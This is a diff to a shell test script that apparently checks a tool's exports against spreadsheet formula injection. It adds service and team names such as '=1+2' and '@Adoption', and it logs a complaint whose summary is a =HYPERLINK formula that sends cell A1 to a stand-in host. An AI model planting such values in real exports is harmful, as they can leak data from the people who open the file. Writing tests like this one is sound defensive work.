@@ -76,6 +76,11 @@ fi
 
 # --- Exports: owner-only, and no cell a spreadsheet would run --------------
 if has_cmd export; then
+	# Service areas and teams are configured lists: these names go on first.
+	if has_cmd services; then
+		"$TELLUS" services add "=1+2" && "$TELLUS" services add "@Adoption" &&
+			"$TELLUS" teams add "+44 20 7946 0000" && "$TELLUS" teams add "'=already quoted"
+	fi
 	"$TELLUS" log --kind complaint --complainant child --service "=1+2" --team "+44 20 7946 0000" \
 		--summary '=HYPERLINK("http://example.invalid/?x="&A1,"Click")' \
 		--desired "-2+3" --contact "@SUM(A1:A9)" >/dev/null
